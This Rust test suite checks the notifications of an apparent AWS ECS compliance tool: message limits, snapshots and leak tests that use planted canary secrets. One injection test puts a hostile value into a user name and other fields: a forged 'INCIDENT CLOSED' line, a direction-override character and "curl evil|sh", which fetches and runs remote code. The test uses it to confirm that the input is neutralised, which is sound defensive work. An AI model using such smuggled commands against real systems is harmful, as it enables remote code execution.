//! What people and programs are told, out of captured events and the described state: whole messages, and what holds of
//! every one of them.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;

use proptest::prelude::*;
use serde_json::{Value, json};
use shipshape_core::control::{Compliance, Violation};
use shipshape_core::judgement::Judgement;
use shipshape_core::ledger::Outcome;
use shipshape_core::notification::{Attribute, Done, LIMIT, Notification};
use shipshape_core::policy::Policy;
use shipshape_core::replay::World;
use shipshape_tests::{
    ACCOUNT, Call, FIX, INSIGHTS, NON_ROOT, PRIVILEGED, PUBLIC_IP, arn, cluster, nat_network, policy,
    privileged, read, service, with_task, world, world_passing,
};

/// The policy of the golden snapshots.
fn golden() -> Policy {
    let names = shipshape_core::selection::names();
    Policy::parse("golden.toml", &fs::read_to_string("golden.toml").unwrap(), &names).unwrap()
}

/// The world of the golden snapshots.
fn described(policy: Policy) -> World {
    let mut files: Vec<_> = fs::read_dir("state").unwrap().map(|entry| entry.unwrap().path()).collect();
    files.sort();
    let json = files.iter().filter(|file| file.extension().is_some_and(|extension| extension == "json"));
    let state: Vec<Value> =
        json.map(|file| serde_json::from_str(&fs::read_to_string(file).unwrap()).unwrap()).collect();
    world_passing(policy, &state, &["arn:*:iam::*:role/*"])
}

/// What a captured event leads to.
fn of_event(file: &str, policy: Policy) -> Vec<Judgement> {
    let text = fs::read_to_string(format!("../events/ecs/{file}")).unwrap();
    let shipshape_core::event::Parsed::Change(change) = read(&text) else { panic!("{file} is no change") };
    told(described(policy).walk(&change).judgements)
}

/// What the last of some calls leads to in a world.
fn of_call(mut world: World, calls: &[Call]) -> Vec<Judgement> {
    let mut last = Vec::new();
    for call in calls {
        last = world.walk(&call.change()).judgements;
    }
    told(last)
}

/// What the walk would publish.
fn told(judgements: Vec<Judgement>) -> Vec<Judgement> {
    let tells =
        |one: &Judgement| matches!(one.outcome, Some(Outcome::Notified | Outcome::Applied | Outcome::Failed));
    judgements.into_iter().filter(tells).collect()
}

fn only(judgements: Vec<Judgement>, control: &str) -> Vec<Judgement> {
    judgements.into_iter().filter(|one| one.evaluation.control.slug == control).collect()
}

fn notification(judgements: &[Judgement]) -> Notification {
    let all: Vec<&Judgement> = judgements.iter().collect();
    Notification::of(&all, Some("staging")).expect("something was judged")
}

/// Everything that is handed to SNS, for people to review.
fn shown(notification: &Notification) -> String {
    assert_holds(notification);
    let mut text = format!("subject: {}\n", notification.subject());
    for (name, attribute) in notification.attributes() {
        writeln!(text, "{name} ({}): {}", attribute.data_type(), attribute.value()).unwrap();
    }
    let texts = texts(notification);
    writeln!(text, "\n==== sms\n{}\n\n==== default\n{}", texts["sms"], texts["default"]).unwrap();
    let data: Value = serde_json::from_str(&texts["sqs"]).unwrap();
    let data = serde_json::to_string_pretty(&data).unwrap();
    writeln!(text, "\n==== email\n{}\n==== sqs, lambda, https, http\n{data}", texts["email"]).unwrap();
    text
}

fn texts(notification: &Notification) -> BTreeMap<String, String> {
    serde_json::from_str(&notification.message()).expect("an object of strings")
}

fn weight(notification: &Notification) -> usize {
    let attributes = notification.attributes();
    let attributes =
        attributes.iter().map(|(name, one)| name.len() + one.data_type().len() + one.value().len());
    notification.message().len() + notification.subject().len() + attributes.sum::<usize>()
}

/// What holds of every notification.
fn assert_holds(notification: &Notification) {
    let subject = notification.subject();
    assert!(subject.len() <= 99, "{subject}");
    assert!(subject.chars().all(|c| c == ' ' || c.is_ascii_graphic()), "{subject}");
    assert!(subject.starts_with(|c: char| c.is_ascii_alphanumeric()), "{subject}");
    assert!(weight(notification) <= LIMIT, "{} bytes", weight(notification));
    let attributes = notification.attributes();
    assert!(attributes.len() <= 10);
    for (name, attribute) in &attributes {
        match attribute {
            Attribute::Text(text) => assert!(!text.is_empty(), "{name} is empty"),
            Attribute::List(list) => assert!(!list.is_empty(), "{name} is empty"),
        }
    }
    let texts = texts(notification);
    let keys: Vec<&str> = texts.keys().map(String::as_str).collect();
    assert_eq!(keys, ["default", "email", "http", "https", "lambda", "sms", "sqs"]);
    assert!(["lambda", "https", "http"].iter().all(|key| texts[*key] == texts["sqs"]));
    assert!(texts["sms"].is_ascii() && texts["sms"].len() <= 140, "{}", texts["sms"]);
    let data: Value = serde_json::from_str(&texts["sqs"]).expect("JSON");
    // What filters by attributes can be written as a filter of the body as well.
    for (name, attribute) in &attributes {
        match attribute {
            Attribute::Text(text) => assert_eq!(data[*name], text.as_str(), "{name}"),
            Attribute::List(list) => assert_eq!(data[*name], json!(list), "{name}"),
        }
    }
    let incident = data["incident"].as_str().expect("an incident");
    for key in ["default", "email", "sqs"] {
        assert!(texts[key].contains(incident), "{key} does not name the incident");
    }
    // Kept and read again it is the same, byte for byte.
    let kept = serde_json::to_string(notification).unwrap();
    let again: Notification = serde_json::from_str(&kept).unwrap();
    assert_eq!(again.message(), notification.message());
    assert_eq!(again.subject(), subject);
    assert!(kept.len() < 400 * 1024, "an item of DynamoDB takes no more");
}

fn snapshot(name: &str, notification: &Notification) {
    insta::with_settings!({ prepend_module_to_snapshot => false, omit_expression => true }, {
        insta::assert_snapshot!(format!("notification__{name}"), shown(notification));
    });
}

#[test]
fn a_public_address_that_was_found() {
    let judged = of_event("ecs-service-no-public-ip.fail.create-fargate.json", Policy::notify_only());
    snapshot("public-ip-notified", &notification(&only(judged, PUBLIC_IP)));
}

#[test]
fn a_public_address_that_was_taken_away() {
    let open = service("checkout", "checkout:7", "ENABLED");
    let state = with_task(nat_network(), &shipshape_tests::good_task("checkout", 7));
    let judged = of_call(world(policy(FIX), &state), &[Call::create_service(0, &open)]);
    let judged = only(judged, PUBLIC_IP);
    assert_eq!(shipshape_tests::story(&judged), ["failed fix applied"]);
    snapshot("public-ip-fixed", &notification(&judged));
}

#[test]
fn container_insights_that_were_switched_on() {
    let judged = of_event("ecs-cluster-container-insights.fail.switched-off.json", golden());
    snapshot("container-insights-fixed", &notification(&only(judged, INSIGHTS)));
}

#[test]
fn a_revision_that_was_mended() {
    let mut task = privileged("checkout", 7);
    task["containerDefinitions"][0]["user"] = json!("root");
    let text = format!("{FIX}[controls.{NON_ROOT}]\nuser = \"1000\"\n");
    let judged = of_call(world(policy(&text), &[]), &[Call::register(0, &task)]);
    let mut notification = notification(&judged);
    notification.done = Some(Done {
        call: "RegisterTaskDefinition".to_owned(),
        before: arn("task-definition/checkout:7"),
        after: arn("task-definition/checkout:8"),
        undo: None,
    });
    snapshot("task-definition-mended", &notification);
}

#[test]
fn a_service_that_was_moved() {
    let calls = [
        Call::register(0, &privileged("checkout", 7)),
        Call::create_service(5, &service("checkout", "checkout:7", "DISABLED")),
    ];
    let mut notification = notification(&only(of_call(world(policy(FIX), &[]), &calls), PRIVILEGED));
    notification.sequence = 2;
    notification.done = Some(Done {
        call: "UpdateService".to_owned(),
        before: arn("task-definition/checkout:7"),
        after: arn("task-definition/checkout:8"),
        undo: None,
    });
    snapshot("service-moved", &notification);
}

#[test]
fn what_a_template_owns() {
    let open = service("checkout", "checkout:7", "ENABLED");
    let state = with_task(nat_network(), &shipshape_tests::good_task("checkout", 7));
    let call =
        Call::create_service(0, &open).with("userAgent", json!("APN/1.0 HashiCorp/1.0 Terraform/1.9.8"));
    let text = "mode = \"fix\"\ndisruptive = true\n";
    let judged = only(of_call(world(policy(text), &state), &[call]), PUBLIC_IP);
    snapshot("iac-owned", &notification(&judged));
}

#[test]
fn a_fix_that_the_pre_flight_refused() {
    let judged = of_event("ecs-service-no-public-ip.fail.code-deploy.json", golden());
    snapshot("pre-flight-refused", &notification(&only(judged, PUBLIC_IP)));
}

#[test]
fn what_could_not_be_judged() {
    let call = Call::create_service(0, &service("checkout", "checkout:7", "DISABLED"));
    let judged = of_call(world(Policy::notify_only(), &[]), &[call]);
    snapshot("unknown", &notification(&judged));
}

#[test]
fn several_ends_in_one_message() {
    let mut task = privileged("checkout", 7);
    task["containerDefinitions"][0]["user"] = json!("root");
    let text = format!(
        "{FIX}[controls.{NON_ROOT}]\nuser = \"1000\"\n[[rules]]\ncontrols = [\"{NON_ROOT}\"]\nmode = \"notify\"\n"
    );
    let judged = of_call(world(policy(&text), &[]), &[Call::register(0, &task)]);
    snapshot("several", &notification(&judged));
}

#[test]
fn nothing_judged_is_nothing_told() {
    assert_eq!(Notification::of(&[], None), None);
}

#[test]
fn a_version_of_the_future_is_not_read() {
    let judged = of_call(world(policy(FIX), &[]), &[Call::create_cluster(0, &cluster("shop", "disabled"))]);
    let mut kept = serde_json::to_value(notification(&judged)).unwrap();
    kept["v"] = json!(2);
    assert!(serde_json::from_value::<Notification>(kept).is_err());
}

/// Every captured event, whatever may be done.
#[test]
fn every_event_is_told_within_the_limits_and_without_a_secret() {
    let mut messages = 0;
    for entry in fs::read_dir("../events/ecs").unwrap() {
        let text = fs::read_to_string(entry.unwrap().path()).unwrap();
        let shipshape_core::event::Parsed::Change(change) = read(&text) else { continue };
        for policy in [Policy::notify_only(), golden()] {
            let judgements = described(policy).walk(&change).judgements;
            for judged in judgements.chunk_by(|a, b| a.resource == b.resource) {
                let notification = notification(judged);
                assert_holds(&notification);
                let all = format!("{}{notification:?}", notification.message());
                assert!(!all.contains("SHIPSHAPE_CANARY"), "{all}");
                messages += 1;
            }
        }
    }
    assert!(messages > 200, "only {messages}");
}

#[test]
fn two_thousand_long_violations_still_fit() {
    let mut judged = of_call(world(policy(FIX), &[]), &[Call::register(0, &privileged("checkout", 7))]);
    let violations = |sign: &str| -> Vec<Violation> {
        let long = sign.repeat(10_000 / sign.len());
        (0..2000)
            .map(|index| Violation::new(format!("/{index}"), json!({"found": long}), long.as_str()))
            .collect()
    };
    for sign in ["x", "\"\\", "\u{1}", "é"] {
        judged[0].evaluation.compliance = Compliance::Failed(violations(sign));
        let notification = notification(&judged);
        assert_holds(&notification);
        let texts = texts(&notification);
        let data: Value = serde_json::from_str(&texts["sqs"]).unwrap();
        let told = &data["findings"][0];
        let kept = told["violations"].as_array().unwrap().len();
        assert_eq!(kept as u64 + told["violations_left_out"].as_u64().unwrap(), 2000);
        let shown = kept.min(10);
        assert!(shown >= 5, "{kept}");
        assert!(texts["email"].contains(&format!("… and {} more", 2000 - shown)), "{}", texts["email"]);
    }
    judged[0].evaluation.compliance = Compliance::Failed(violations("y").split_off(1900));
    let copies: Vec<Judgement> = std::iter::repeat_n(judged[0].clone(), 40).collect();
    assert_holds(&notification(&copies));
}

#[test]
fn nobody_injects_a_line_or_a_command() {
    let evil = "a\n\nINCIDENT CLOSED\u{202e}' ; curl evil|sh #";
    let mut shop = cluster("shop", "disabled");
    shop["settings"][0]["value"] = json!("disabled");
    let user = json!({"type": "IAMUser", "userName": evil});
    let call = Call::create_cluster(0, &shop).with("userIdentity", user);
    let mut judged = of_call(world(policy(FIX), &[]), &[call]);
    judged[0].evaluation.compliance =
        Compliance::Failed(vec![Violation::new(format!("/{evil}"), evil, evil)]);
    let all: Vec<&Judgement> = judged.iter().collect();
    let mut notification = Notification::of(&all, Some(evil)).unwrap();
    let after = evil.to_owned();
    notification.done =
        Some(Done { call: after.clone(), before: after.clone(), after: after.clone(), undo: Some(after) });
    assert_holds(&notification);
    for (key, text) in texts(&notification) {
        assert!(!text.contains('\u{202e}') || ["sqs", "lambda", "http", "https"].contains(&&*key), "{key}");
        assert!(!text.lines().any(|line| line.trim_start().starts_with("INCIDENT CLOSED")), "{key}: {text}");
    }
}

/// A document with canaries in every place that may hold a secret.
fn planted(family: &str, flags: [bool; 4]) -> Value {
    let canary = "PLANTED7canary";
    let [privileged, root, writable, unlogged] = flags;
    let mut task = shipshape_tests::good_task(family, 7);
    task["tags"] = json!([{"key": "note", "value": canary}]);
    let container = &mut task["containerDefinitions"][0];
    container["environment"] = json!([{"name": "DB_PASSWORD", "value": canary}]);
    container["secrets"] = json!([{"name": "TOKEN", "valueFrom": canary}]);
    container["command"] = json!(["serve", format!("--token={canary}")]);
    container["entryPoint"] = json!([format!("API_KEY={canary}")]);
    container["dockerLabels"] = json!({"api-key": canary});
    container["privileged"] = json!(privileged);
    container["user"] = json!(if root { "root" } else { "1000" });
    container["readonlyRootFilesystem"] = json!(!writable);
    container["logConfiguration"] = if unlogged {
        json!({"logDriver": "splunk", "options": {"splunk-token": canary, "mode": "blocking"},
            "secretOptions": [{"name": "splunk-token", "valueFrom": canary}]})
    } else {
        json!({"logDriver": "awslogs", "options": {"awslogs-group": canary}})
    };
    task
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn whatever_is_judged_is_told_within_the_limits(
        family in "[a-zA-Z0-9_-]{1,255}", service_name in "[a-zA-Z0-9_-]{1,255}", actor in "\\PC{0,300}",
        account in "\\PC{0,80}", flags in any::<[bool; 4]>(), fixes in any::<bool>(), reason in "\\PC{0,400}",
    ) {
        let on: String = shipshape_core::controls::ALL
            .iter()
            .map(|one| format!("[controls.{}]\nenabled = true\n", one.slug))
            .collect();
        let policy = policy(&format!("{}{on}", if fixes { FIX } else { "mode = \"notify\"\n" }));
        let user = json!({"type": "IAMUser", "userName": actor, "accountId": ACCOUNT});
        let task = planted(&family, flags);
        let running = service(&service_name, &format!("{family}:7"), "ENABLED");
        let calls = [
            Call::register(0, &task).with("userIdentity", user.clone()),
            Call::create_service(5, &running).with("userIdentity", user),
        ];
        let mut world = world(policy, &nat_network());
        for call in &calls {
            let mut judged = world.walk(&call.change()).judgements;
            for one in &mut judged {
                if let Some(ruling) = &mut one.ruling {
                    ruling.reason.text.push_str(&reason);
                }
            }
            let all: Vec<&Judgement> = judged.iter().collect();
            let told = Notification::of(&all, Some(&account)).expect("a message");
            assert_holds(&told);
            let said = format!("{}{}{told:?}", told.message(), told.subject());
            prop_assert!(!said.contains("PLANTED7canary"), "{said}");
        }
    }
}
